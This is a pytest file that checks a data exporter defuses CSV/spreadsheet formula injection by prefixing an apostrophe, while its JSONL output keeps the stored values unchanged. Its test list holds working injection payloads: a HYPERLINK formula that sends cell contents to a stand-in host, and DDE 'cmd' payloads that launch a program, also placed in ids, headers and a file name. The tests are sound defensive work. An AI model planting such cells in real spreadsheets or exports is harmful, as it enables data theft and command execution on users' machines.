"""Exports opened in Excel never run a formula (CSV injection); the JSONL keeps values exactly."""

from __future__ import annotations

import csv
import json

import pytest

from assistant.exporter import csv_safe, export_store
from assistant.importer import commit, validate
from assistant.store import Store

# Cells as an attacker would write them (OWASP "CSV Injection"), and harmless look-alikes.
HOSTILE = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # Excel skips the leading spaces
    "\u3000=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_excel_would_read_as_a_formula_gets_a_leading_apostrophe(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["住民票を誤交付した", "1+1=2", "メール@宛先", "", "'=既に文字列", "2022"])
def test_ordinary_cells_are_written_unchanged(value):
    assert csv_safe(value) == value


def _rows(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _dangerous(cell: str) -> bool:
    return cell.startswith(tuple("=+-@\t\r")) or cell.lstrip().startswith(tuple("=+-@"))


@pytest.fixture
def hostile_store(tmp_path):
    table = tmp_path / "hostile.csv"
    with table.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "年度", "事案の内容", "類型", "再発防止策", '=HYPERLINK("http://x")'])
        for n, value in enumerate(HOSTILE, start=1):
            # An id, a description, a category, measures and a metadata cell, each hostile.
            writer.writerow([f"{value}#{n}", "R5", f"{value} 事案{n}", value, value, value])
    report = validate(table)
    assert report.problems == (), report.problems
    with Store(tmp_path / "store.sqlite3") as store:
        commit(report, store)
        # An upload is cited by its own name, which may look like a formula too (changes.csv).
        named = tmp_path / "named.csv"
        named.write_text("id,事案の内容\nx1,窓口で誤交付した\n", encoding="utf-8")
        commit(validate(named, source='=HYPERLINK("http://203.0.113.9").csv', store=store), store)
        yield store


def test_no_cell_of_the_exported_csvs_is_a_formula_and_the_jsonl_is_exact(tmp_path, hostile_store):
    export_store(hostile_store, tmp_path / "out")
    for name in ("store.csv", "changes.csv"):
        cells = [cell for row in _rows(tmp_path / "out" / name) for cell in row]
        assert not [cell for cell in cells if _dangerous(cell)], name
    store_rows = _rows(tmp_path / "out" / "store.csv")
    header = store_rows[0]
    assert '\'=HYPERLINK("http://x")' in header  # a column name from the data is a cell too
    ids = [row[header.index("id")] for row in store_rows[1:]]
    assert "'=cmd|' /C calc'!A0#2" in ids
    changes = _rows(tmp_path / "out" / "changes.csv")
    assert "'=cmd|' /C calc'!A0#2" in [row[2] for row in changes]
    assert '\'=HYPERLINK("http://203.0.113.9").csv' in [row[3] for row in changes]
    # JSONL: what was stored, byte for byte (no apostrophes).
    records = [json.loads(line) for line in (tmp_path / "out" / "store.jsonl").read_text("utf-8").splitlines()]
    stored = hostile_store.incidents()
    assert [r["id"] for r in records] == [i.id for i in stored]
    assert [r["description"] for r in records] == [i.description for i in stored]
    key = '=HYPERLINK("http://x")'
    assert [r.get(key) for r in records] == [i.metadata.get(key) for i in stored]
    assert [r[key] for r in records[: len(HOSTILE)]] == HOSTILE
